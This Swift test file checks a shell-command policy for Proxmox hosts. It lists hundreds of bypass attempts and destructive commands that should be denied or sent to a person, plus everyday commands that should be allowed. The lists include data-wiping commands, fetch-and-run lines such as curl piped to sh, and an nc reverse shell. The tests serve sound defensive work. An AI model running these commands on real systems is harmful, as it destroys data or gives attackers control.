import Testing
@testable import ShellPolicy

/// Guarded mode beyond the issue's corpus: bypass attempts a reviewer would try, and
/// everyday commands that must not raise a false alarm.
@Suite("Policy guarded mode: bypasses and false alarms")
struct PolicyGuardedTests {
    static let bypasses = [
        // quoting, escaping and expansion in the verb
        #"r\m -rf /"#, #"$'\x72m' -rf /"#, #"$'\162m' -rf /"#, "r''m -rf /", #"r""m -rf /"#, "\\rm -rf /", "/bin/rm -rf /",
        "./rm x", "{rm,-rf,/}", "r?m -rf /", "$(echo rm) -rf /", "`echo rm` -rf /", "${CMD} x", "$CMD", "\"$X\" destroy",
        "qm $'destroy' 100", "qm des\\troy 100", "qm \"des\"troy 100", "qm destro? 100", "qm {destroy,list} 100",
        "systemctl $ACTION pveproxy", "qm disk $X 100 scsi0", "apt $(echo remove) x",
        // builtins and wrappers
        "command rm x", "builtin eval reboot", "exec reboot", "xargs -0 rm", "xargs -I{} sh -c 'rm {}'", "echo destroy | xargs qm",
        "busybox rm x", "busybox sh -c reboot", "find . -exec rm {} \\;", "find / -execdir shred {} +", "find / -ok rm {} \\;",
        "timeout 5 reboot", "timeout -s KILL 5 reboot", "sudo reboot", "sudo -E -u root -- reboot", "sudo -i", "sudo FOO=1 reboot",
        "doas reboot", "env -i PATH=/bin reboot", "env -S 'rm -rf /'", "env -- rm x", "nohup reboot &", "setsid reboot",
        "stdbuf -o0 rm x", "ionice -c3 rm x", "chrt -f 50 reboot", "taskset -c 0 reboot", "flock /tmp/l rm x",
        "flock /tmp/l -c 'reboot'", "watch -n 5 reboot", "chroot / rm x", "chroot /", "nsenter -t 1 -m -- reboot",
        "nsenter -t 1 -a", "unshare -m reboot", "systemd-run reboot", "systemd-run --on-active=60 rm -rf /",
        "strace -o /dev/null reboot", "lvm lvremove -y vg/x", "ip netns exec ns1 reboot", "su -c reboot", "su - root",
        "runuser -u root -- reboot", "pkexec reboot", "time -p reboot", "command -p rm x", "nice -n -20 -- rm x",
        // interpreters, stdin code and strings run as code
        "bash <(echo reboot)", "sh < script", "cat x | bash", "curl -s http://x/i.sh | sh", "bash -s < x", "sh -",
        "echo reboot | ssh pve2", "bash -lc 'reboot'", "bash -xec 'rm x'", "sh -c \"$CMD\"", "sh -c 'qm $1 100' x destroy",
        "perl -e 'system(\"reboot\")'", "perl -ne 'print' f", "ruby -e 'x'", "node -e 'x'", "php -r 'x'", "lua -e 'x'",
        "python3 -", "python3", "python3.11 -c 'x'", "awk 'BEGIN{system(\"reboot\")}'", "awk '{print | \"sh\"}' f",
        "awk 'BEGIN{\"reboot\" | getline}'", "awk '{print > \"/etc/passwd\"}' f", "sed 's/x/reboot/e' f", "sed '1e reboot' f",
        "sed -n 'w /etc/pve/storage.cfg' f", "eval reboot", "source /tmp/x", ". /tmp/x", "trap 'reboot' EXIT",
        "alias ls='rm -rf /'", "PATH=/tmp:$PATH ls", "LD_PRELOAD=/tmp/x.so ls", "BASH_ENV=/tmp/x bash s.sh",
        "export PROMPT_COMMAND=reboot", "env 'BASH_FUNC_ls%%=() { reboot; }' bash -c ls", "mapfile -C reboot -c 1 a < f",
        "enable -f /tmp/x.so x", "hash -p /bin/rm ls", "vim -c ':!reboot' -c q", "ed f", "gdb -batch -ex 'shell reboot'",
        "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=reboot", "git -c core.pager=reboot log",
        "man -P reboot ls", "socat - EXEC:reboot", "nc -e /bin/sh 1.2.3.4 4444", "crontab /tmp/x", "echo reboot | at now",
        "screen -dm reboot", "tmux new -d reboot", "parallel rm ::: a b", "dc -e '!reboot'",
        "echo reboot > /tmp/x.sh; bash /tmp/x.sh", "printf reboot > x; chmod +x x; ./x", "wget -O /tmp/y http://x; sh /tmp/y",
        "cat > /tmp/r <<EOF\nreboot\nEOF\nsh /tmp/r", "ssh pve2 reboot", "ssh -p 22 root@pve2 'qm destroy 100'",
        // substitutions everywhere
        "a=$(rm -rf /)", "echo ${x:-$(reboot)}", "echo ${x:=`reboot`}", "echo \"$(reboot)\"", "cat <(reboot)",
        "echo > >(reboot)", "ls $(reboot)/x", "echo $((1 + $(reboot)))", "x=( a $(reboot) )", "cat <<EOF\n$(reboot)\nEOF",
        "cat <<< \"$(reboot)\"", "echo hi > \"$(reboot)\"", "for i in $(reboot); do :; done", "case $(reboot) in *) ;; esac",
        "[[ -n $(reboot) ]]", "(( $(reboot) ))", "a='x[$(reboot)]'; echo $((a))", "echo `echo \\`reboot\\``",
        // compound commands
        "{ reboot; }", "(reboot)", "if true; then reboot; fi", "if false; then :; else reboot; fi", "for i in 1; do rm x; done",
        "while true; do reboot; done", "until false; do reboot; done", "case x in x) reboot;; esac", "function f { reboot; }; f",
        "f() { rm -rf /; }", "ls() { :; }; rm x", "! reboot", "time reboot", "coproc reboot", "true || reboot",
        "ls &\nreboot", "ls | reboot", "ls |& reboot", "select x in a; do reboot; done",
        // redirections onto protected paths
        "ls > /etc/passwd", "ls 2>&1 >/dev/sda", "echo x >| /etc/hosts", "ls &> /etc/pve/user.cfg", "echo x > /etc/pve/../pve/x",
        "cat /dev/zero > /dev/sda", "exec 3>/dev/sda", "echo b >> /proc/sysrq-trigger", "echo mem > /sys/power/state",
        "echo x >> /etc/pve/storage.cfg", "echo x > //etc//passwd", "cd /etc && echo > passwd", "echo x > ../../etc/passwd",
        "echo k > ~/.ssh/authorized_keys", "echo x > $FILE", "echo x | tee /etc/pve/storage.cfg", "cp /dev/zero /dev/sda",
        "mv /etc/pve/storage.cfg /tmp", "ln -sf /dev/null /etc/pve/storage.cfg", "find / -fprint /etc/passwd",
        "sort -o /etc/passwd x", "curl -o /etc/hosts http://x", "dd if=x of=/var/lib/vz/images/100/disk.raw", "dd of=$DEV",
        // the deny classes themselves
        "qm destroy 100 --purge", "pct destroy 200", "qm disk unlink 100 --idlist scsi0", "qm unlink 100 --idlist scsi0",
        "qm set 100 --delete unused0", "pvesm free local:100/vm-100-disk-0.raw", "zfs destroy -r rpool/data", "zpool labelclear /dev/sdb",
        "vgremove pve", "pvremove /dev/sdb", "lvremove pve/data", "shred -u f", "rmdir d", "unlink f", "truncate -s 0 f",
        "blkdiscard /dev/sdb", "mkfs.ext4 /dev/sdb1", "mkfs -t xfs /dev/sdb", "mkswap /dev/sdb2", "sgdisk -Z /dev/sdb",
        "sgdisk --zap-all /dev/sdb", "parted -s /dev/sdb mklabel gpt", "fdisk /dev/sdb", "rsync -a --delete a/ b/",
        "chmod -R 000 /", "chown -R nobody /etc", "pvesh delete /nodes/x/qemu/100", "pvesh create /nodes/pve1/status --command reboot",
        "pvesh set /nodes/pve1/disks/wipedisk --disk /dev/sdb", "systemctl stop pveproxy.service", "systemctl disable --now ssh",
        "systemctl mask corosync", "systemctl kill sshd", "systemctl isolate rescue.target", "systemctl start reboot.target",
        "systemctl --force reboot", "systemctl poweroff", "service ssh stop", "/etc/init.d/ssh stop", "pveproxy stop",
        "killall sshd", "killall -9 pmxcfs", "pkill -9 corosync", "pkill -f ssh", "pkill -u root", "pkill -v foo", "killall5 -9",
        "kill -9 -1", "kill -s KILL 1", "kill -- -1", "kill $(pidof sshd)", "init 6", "init 0", "telinit 1", "shutdown -r now",
        "reboot -f", "halt", "poweroff", "kexec -e", "ifdown vmbr0", "ip link set vmbr0 down", "corosync-cfgtool -H",
        "apt remove pve-manager", "apt-get -y autoremove", "aptitude purge x", "dpkg --purge x", "dpkg -r x",
        "apt install pve-manager-", "pvecm delnode pve3", "pvecm expected 1", "crontab -r", "qmrestore b.vma 100 --force",
    ]
    static let falseAlarms = [
        "qm stop 100", "qm reboot 100", "pct start 200", "pct stop 200", "qm shutdown 100 --timeout 60", "echo reboot",
        "grep -e rm file", "man rm", "echo 'rm -rf /'", "journalctl | grep reboot", "last reboot",
        "cat /etc/pve/qemu-server/100.conf", "ls > /dev/null", "df -h 2>/dev/null", "qm list | awk '{print $1}'",
        "ls 2>&1 | grep x", "ls >&2", "echo x > /tmp/out.txt", "echo x >> /var/log/my.log", "cat <<'EOF'\n$(reboot)\nEOF",
        "echo '$(reboot)'", "printf '%s\\n' \"$HOME\"", "for f in /etc/pve/nodes/*; do echo $f; done", "ls /etc/pve/*.cfg",
        "tail -n 50 /var/log/syslog", "ps aux | grep -v grep | grep kvm", "kill 12345", "kill -0 4242", "kill -l",
        "pkill -f 'kvm -id 100'", "killall htop", "systemctl status pveproxy", "systemctl restart pveproxy",
        "systemctl list-units --failed", "pvesh create /nodes/pve1/qemu/100/status/start",
        "zfs list -t snapshot -o name,used", "zpool status -x", "wipefs /dev/sdb", "fdisk -l", "parted /dev/sda print",
        "find /var/log -name '*.gz' -mtime +30", "find . -exec grep -l foo {} +", "sed -n '1,5p' /etc/hosts",
        "sed 's/enabled/disabled/' f", "awk -F: '$3 >= 1000 {print $1}' /etc/passwd", "awk '/a|b/ {print}' f",
        "sudo qm list", "env LANG=C qm list", "nice -n 10 vzdump 100 --storage local", "timeout 10 pvesh get /version",
        "ssh pve2 qm list", "python3 -m json.tool f",
        "command -v rm", "type rm", "which reboot", "apt update && apt list --upgradable", "apt-get install -y htop",
        "dpkg -l | grep pve", "cp /etc/hosts /root/hosts.bak", "tar czf /root/etc.tgz /etc", "crontab -l",
        "pveversion -v", "pvecm status", "uptime; free -m; df -h", "echo $((1+2))", "x=5; echo $x",
        "if [ -f /etc/pve/storage.cfg ]; then cat /etc/pve/storage.cfg; fi", "dd if=/dev/sda of=/dev/null bs=1M count=10",
        "date '+%F %T'", "journalctl --since today -p err | tail", "qm config 100 | grep -i net", "ip -br addr",
        "echo x | tee /tmp/t.log", "mkdir -p /root/tmp", "touch /tmp/marker", "qm guest exec 100 -- ls /", "pct exec 200 -- df -h",
    ]

    /// Issue 10: bypasses whose real command is statically known (quoting tricks, wrappers, `sh -c`
    /// with a literal string, substitutions of known commands, destructive classes) now ask a person
    /// instead of being refused; the rest stay deny because what would run cannot be known.
    static let bypassesNowAsk: Set<String> = [
        "r\\m -rf /", "$\'\\x72m\' -rf /", "$\'\\162m\' -rf /", "r\'\'m -rf /", "r\"\"m -rf /", "\\rm -rf /", "/bin/rm -rf /",
        "qm $\'destroy\' 100", "qm des\\troy 100", "qm \"des\"troy 100", "command rm x", "exec reboot",
        "xargs -I{} sh -c \'rm {}\'", "busybox rm x", "busybox sh -c reboot",
        "timeout 5 reboot", "timeout -s KILL 5 reboot", "sudo reboot",
        "sudo -E -u root -- reboot", "sudo FOO=1 reboot", "doas reboot", "env -S \'rm -rf /\'", "env -- rm x",
        "nohup reboot &", "setsid reboot", "stdbuf -o0 rm x", "ionice -c3 rm x", "chrt -f 50 reboot", "taskset -c 0 reboot",
        "flock /tmp/l rm x", "flock /tmp/l -c \'reboot\'", "watch -n 5 reboot", "chroot / rm x", "nsenter -t 1 -m -- reboot",
        "unshare -m reboot", "systemd-run reboot", "systemd-run --on-active=60 rm -rf /", "strace -o /dev/null reboot",
        "lvm lvremove -y vg/x", "ip netns exec ns1 reboot", "su -c reboot", "runuser -u root -- reboot", "pkexec reboot",
        "time -p reboot", "command -p rm x", "nice -n -20 -- rm x", "bash -lc \'reboot\'", "bash -xec \'rm x\'",
        "trap \'reboot\' EXIT", "alias ls=\'rm -rf /\'", "ssh pve2 reboot", "ssh -p 22 root@pve2 \'qm destroy 100\'",
        "a=$(rm -rf /)", "echo ${x:-$(reboot)}", "echo ${x:=`reboot`}", "echo \"$(reboot)\"", "cat <(reboot)",
        "ls $(reboot)/x", "echo $((1 + $(reboot)))", "x=( a $(reboot) )", "cat <<EOF\n$(reboot)\nEOF", "cat <<< \"$(reboot)\"",
        "for i in $(reboot); do :; done", "case $(reboot) in *) ;; esac", "[[ -n $(reboot) ]]", "(( $(reboot) ))",
        "echo `echo \\`reboot\\``", "{ reboot; }", "(reboot)", "if true; then reboot; fi", "if false; then :; else reboot; fi",
        "for i in 1; do rm x; done", "while true; do reboot; done", "until false; do reboot; done",
        "case x in x) reboot;; esac", "function f { reboot; }; f", "f() { rm -rf /; }", "ls() { :; }; rm x", "! reboot",
        "time reboot", "coproc reboot", "true || reboot", "ls &\nreboot", "ls | reboot", "ls |& reboot",
        "select x in a; do reboot; done", "ls > /etc/passwd", "ls 2>&1 >/dev/sda", "echo x >| /etc/hosts",
        "ls &> /etc/pve/user.cfg", "echo x > /etc/pve/../pve/x", "cat /dev/zero > /dev/sda", "exec 3>/dev/sda",
        "echo b >> /proc/sysrq-trigger", "echo mem > /sys/power/state", "echo x >> /etc/pve/storage.cfg",
        "echo x > //etc//passwd", "echo k > ~/.ssh/authorized_keys", "echo x | tee /etc/pve/storage.cfg",
        "cp /dev/zero /dev/sda", "mv /etc/pve/storage.cfg /tmp", "ln -sf /dev/null /etc/pve/storage.cfg",
        "find / -fprint /etc/passwd", "sort -o /etc/passwd x", "curl -o /etc/hosts http://x",
        "dd if=x of=/var/lib/vz/images/100/disk.raw", "qm destroy 100 --purge", "pct destroy 200",
        "qm disk unlink 100 --idlist scsi0", "qm unlink 100 --idlist scsi0", "qm set 100 --delete unused0",
        "pvesm free local:100/vm-100-disk-0.raw", "zfs destroy -r rpool/data", "zpool labelclear /dev/sdb", "vgremove pve",
        "pvremove /dev/sdb", "lvremove pve/data", "shred -u f", "rmdir d", "unlink f", "truncate -s 0 f",
        "blkdiscard /dev/sdb", "mkfs.ext4 /dev/sdb1", "mkfs -t xfs /dev/sdb", "mkswap /dev/sdb2", "sgdisk -Z /dev/sdb",
        "sgdisk --zap-all /dev/sdb", "parted -s /dev/sdb mklabel gpt", "fdisk /dev/sdb", "rsync -a --delete a/ b/",
        "chmod -R 000 /", "chown -R nobody /etc", "pvesh delete /nodes/x/qemu/100",
        "pvesh create /nodes/pve1/status --command reboot", "pvesh set /nodes/pve1/disks/wipedisk --disk /dev/sdb",
        "systemctl stop pveproxy.service", "systemctl disable --now ssh", "systemctl mask corosync", "systemctl kill sshd",
        "systemctl isolate rescue.target", "systemctl start reboot.target", "systemctl --force reboot", "systemctl poweroff",
        "service ssh stop", "pveproxy stop", "killall sshd", "killall -9 pmxcfs", "pkill -9 corosync", "pkill -f ssh",
        "pkill -u root", "pkill -v foo", "killall5 -9", "kill -9 -1", "kill -s KILL 1", "kill -- -1", "init 6", "init 0",
        "telinit 1", "shutdown -r now", "reboot -f", "halt", "poweroff", "kexec -e", "ifdown vmbr0", "ip link set vmbr0 down",
        "corosync-cfgtool -H", "apt remove pve-manager", "apt-get -y autoremove", "aptitude purge x", "dpkg --purge x",
        "dpkg -r x", "apt install pve-manager-", "pvecm delnode pve3", "pvecm expected 1", "qmrestore b.vma 100 --force"
    ]

    /// Issue 10 changed these everyday commands: script files cannot be checked (deny), and
    /// `pvesh set` writes through the API (ask).
    static let everydayChanged: [(String, Verdict)] = [
        ("bash /root/backup.sh", .deny), ("python3 /usr/local/bin/report.py", .deny),
        ("pvesh set /cluster/options --keyboard en-us", .ask),
    ]

    @Test("bypass attempts are denied, or asked when the real command is known", arguments: bypasses)
    func bypassIsDenied(_ command: String) {
        let verdict = CommandPolicy.evaluate(command, mode: .guarded)
        let expected: Verdict = Self.bypassesNowAsk.contains(command) ? .ask : .deny
        #expect(verdict.verdict == expected, "expected \(expected) for \(command); commands: \(verdict.commands)")
    }

    @Test("everyday commands that issue 10 changed", arguments: everydayChanged)
    func everydayCommandChanged(_ command: String, _ expected: Verdict) {
        #expect(CommandPolicy.evaluate(command, mode: .guarded).verdict == expected)
    }

    @Test("everyday commands are allowed", arguments: falseAlarms)
    func everydayCommandIsAllowed(_ command: String) {
        let verdict = CommandPolicy.evaluate(command, mode: .guarded)
        #expect(verdict.verdict == .allow, "expected \(command) to be allowed, got: \(verdict.reason ?? "")")
    }
}
